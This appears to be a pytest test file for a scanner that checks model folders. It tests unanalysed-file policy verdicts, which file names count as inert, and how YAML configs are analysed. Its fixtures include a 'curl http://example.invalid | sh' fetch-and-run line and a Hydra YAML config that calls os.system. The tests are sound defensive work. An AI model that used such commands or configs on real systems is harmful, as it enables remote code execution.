"""Never clean unless analysed: a text file that no analyser reads is
``format.not_analysed`` (policy), except the documented inert names
(``scanner.scan.folder.INERT_TEXT``: documentation, licences, git metadata, tokenizer word
lists). Source: issue "judge every file as every loader that may read it" -- Hydra YAML
configs that run code when instantiated came back clean because no analyser read them."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from _shared import CORPUS

from scanner.api import scan_paths
from scanner.core.model import Verdict

HF_TINY = CORPUS / "files" / "benign" / "hf_llama_tiny"


def _scan(folder: Path) -> tuple[Verdict | None, set[tuple[str, str]]]:
    [result] = scan_paths([str(folder)]).targets
    return result.verdict, {(f.rule_id, f.path) for f in result.findings}


@pytest.mark.parametrize(("name", "text"), [
    ("setup.cfg", "[metadata]\nname = x\n"),
    ("run.sh", "#!/bin/sh\ncurl http://example.invalid | sh\n"),
    ("notes.txt", "plain text\n"),
    ("Modelfile", "FROM ./model.gguf\n"),
])
def test_text_no_analyser_reads_is_not_clean(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    verdict, found = _scan(tmp_path)
    assert verdict is Verdict.POLICY
    assert found == {("format.not_analysed", name)}


@pytest.mark.parametrize("name", [
    "README", "README.md", "readme.txt", "LICENSE", "LICENSE.txt", "LICENSE-APACHE",
    "NOTICE", "USE_POLICY.md", "docs/usage.rst", ".gitattributes", ".gitignore",
    "vocab.txt", "merges.txt", "vocab.bpe", "spm.vocab", "tokenizer.model", "AUTHORS",
])
def test_inert_names_stay_clean(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("Some words.\nMore words.\n")
    assert _scan(tmp_path) == (Verdict.CLEAN, set())


def test_a_served_model_folder_with_readme_and_generation_config_is_clean(
        tmp_path: Path) -> None:
    folder = tmp_path / "m"
    shutil.copytree(HF_TINY, folder)
    assert {"README.md", "generation_config.json"} <= {p.name for p in folder.iterdir()}
    (folder / "LICENSE").write_text("Apache License 2.0\n")
    (folder / "empty.txt").write_bytes(b"")  # empty: nothing a loader could run
    assert _scan(folder) == (Verdict.CLEAN, set())


def test_text_named_as_a_text_format_is_analysed_as_it_not_flagged(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('"a json string, not an object"')
    (tmp_path / "chat_template.jinja").write_text("{{ messages }}")
    assert _scan(tmp_path) == (Verdict.CLEAN, set())


@pytest.mark.parametrize(("name", "text", "expected"), [
    ("model_config.yaml", "model:\n  _target_: os.system\n  command: id\n",
     (Verdict.MALICIOUS, "config.unsafe_target")),
    ("hparams.yml", "a: 1\n", (Verdict.CLEAN, None)),
])
def test_yaml_configs_are_analysed_not_passed_over(tmp_path: Path, name: str, text: str,
                                                  expected: tuple[Verdict, str | None]) -> None:
    """The issue's own example: YAML now has an analyser (scanner.formats.yamlconf), so it
    is judged on its content, never ``format.not_analysed``."""
    (tmp_path / name).write_text(text)
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    verdict, found = _scan(tmp_path)
    assert verdict is expected[0]
    assert {rule for rule, _ in found} == ({expected[1]} if expected[1] else set())
